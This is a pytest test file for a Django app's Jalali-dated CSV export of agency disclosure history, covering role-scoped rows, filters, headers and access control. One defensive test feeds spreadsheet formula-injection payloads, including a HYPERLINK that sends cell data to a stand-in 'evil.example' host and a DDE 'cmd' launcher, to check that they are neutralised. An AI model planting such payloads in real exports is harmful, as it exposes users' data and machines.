"""/gov/history/export.csv: the history page as a spreadsheet. UTF-8 with a byte-order mark,
no cell can start a formula, dates in the Jalali calendar, the page's filter applied, and the
same rows the page shows to each role (staff their own, the agency admin the agency's)."""

import csv
import datetime
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation

from inquiries.models import DisclosureRecord
from tests.inquiries.conftest import LOOKED_UP, UNKNOWN
from tests.inquiries.test_agency_history import disclose

pytestmark = pytest.mark.django_db
URL = "/gov/history/"
EXPORT = "/gov/history/export.csv"
MAY_1 = datetime.datetime(2026, 5, 1, 8, tzinfo=datetime.UTC)  # 1405/02/11 in Tehran


@pytest.fixture(autouse=True)
def _english(client):
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith(b"\xef\xbb\xbf"), "no byte-order mark: Excel would read it as ANSI"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.fixture
def two_agencies(agency_staff, agency_admin, other_citizen, make_panel):
    x = make_panel(agency_staff)
    make_panel(agency_admin, mou=x, role="admin")
    y = make_panel(other_citizen)
    disclose(x, agency_staff, case_reference="X-STAFF", at=MAY_1)
    disclose(x, agency_admin, case_reference="X-ADMIN", at=MAY_1)
    disclose(y, other_citizen, case_reference="Y-STAFF", at=MAY_1)
    return x, y


def cells(rows: list[list[str]]) -> str:
    return "\n".join(",".join(row) for row in rows)


def test_staff_export_only_their_own_lookups(client, agency_staff, two_agencies):
    client.force_login(agency_staff)
    text = cells(rows_of(client.get(EXPORT)))
    assert "X-STAFF" in text
    assert "X-ADMIN" not in text and "Y-STAFF" not in text


def test_the_agency_admin_exports_the_whole_agency_and_no_other(client, agency_admin, two_agencies):
    client.force_login(agency_admin)
    rows = rows_of(client.get(EXPORT))
    text = cells(rows)
    assert "X-STAFF" in text and "X-ADMIN" in text
    assert "Y-STAFF" not in text
    assert "Staff member" in rows[0]


def test_dates_are_jalali_and_the_national_code_is_whole(client, agency_staff, make_panel):
    mou = make_panel(agency_staff)
    disclose(mou, agency_staff, at=MAY_1)
    client.force_login(agency_staff)

    header, row = rows_of(client.get(EXPORT))

    record = dict(zip(header, row, strict=True))
    assert record["Date (Jalali)"] == "1405/02/11"
    assert record["Time"] == "11:30"
    assert record["National code"] == LOOKED_UP


def test_the_persian_export_has_persian_headers_and_jalali_dates(client, agency_staff, make_panel):
    mou = make_panel(agency_staff)
    disclose(mou, agency_staff, at=MAY_1)
    client.force_login(agency_staff)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "fa"

    header, row = rows_of(client.get(EXPORT))

    with translation.override("fa"):
        assert header[0] == translation.gettext("Date (Jalali)")
    assert header[0] != "Date (Jalali)"
    # Data cells keep ASCII digits, so that a spreadsheet sorts and sums them.
    assert row[0] == "1405/02/11"


def test_the_page_filter_is_applied(client, agency_staff, make_panel):
    mou = make_panel(agency_staff)
    disclose(mou, agency_staff, LOOKED_UP, case_reference="EARLY", at=MAY_1)
    disclose(
        mou,
        agency_staff,
        UNKNOWN,
        case_reference="LATE",
        at=datetime.datetime(2026, 6, 1, 8, tzinfo=datetime.UTC),
    )
    client.force_login(agency_staff)
    client.post(URL, {"date_from": "1405/03/01", "date_to": "", "national_code": ""})

    text = cells(rows_of(client.get(EXPORT)))

    assert "LATE" in text and "EARLY" not in text
    client.post(URL, {"clear": "1"})
    text = cells(rows_of(client.get(EXPORT)))
    assert "LATE" in text and "EARLY" in text


@pytest.mark.parametrize(
    "typed", ['=HYPERLINK("https://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1)"]
)
def test_a_cell_that_could_start_a_formula_is_neutralised(client, agency_staff, make_panel, typed):
    mou = make_panel(agency_staff)
    disclose(mou, agency_staff, purpose_detail=typed, case_reference=typed, at=MAY_1)
    client.force_login(agency_staff)

    _header, row = rows_of(client.get(EXPORT))

    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@")), cell
    assert "'" + typed in row


def test_exporting_records_no_new_disclosure(client, agency_staff, two_agencies):
    client.force_login(agency_staff)
    before = DisclosureRecord.objects.count()
    rows_of(client.get(EXPORT))
    assert DisclosureRecord.objects.count() == before


def test_the_export_costs_the_same_queries_for_ten_rows_or_thirty(
    client, agency_admin, make_panel, agency_staff
):
    mou = make_panel(agency_admin, role="admin")
    make_panel(agency_staff, mou=mou)
    client.force_login(agency_admin)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            rows_of(client.get(EXPORT))
        return len(captured)

    for _ in range(10):
        disclose(mou, agency_staff, at=MAY_1)
    ten = queries()
    for _ in range(20):
        disclose(mou, agency_admin, at=MAY_1)
    assert queries() == ten


def test_the_history_page_links_to_the_export(client, agency_staff, two_agencies):
    client.force_login(agency_staff)
    assert f'href="{EXPORT}"'.encode() in client.get(URL).content


def test_someone_outside_the_panel_cannot_export(client, citizen, two_agencies):
    client.force_login(citizen)
    response = client.get(EXPORT)
    assert response.status_code in {302, 403}
    assert b"X-STAFF" not in response.content


def test_the_export_is_a_get_only(client, agency_staff, two_agencies):
    client.force_login(agency_staff)
    assert client.post(EXPORT).status_code == 405
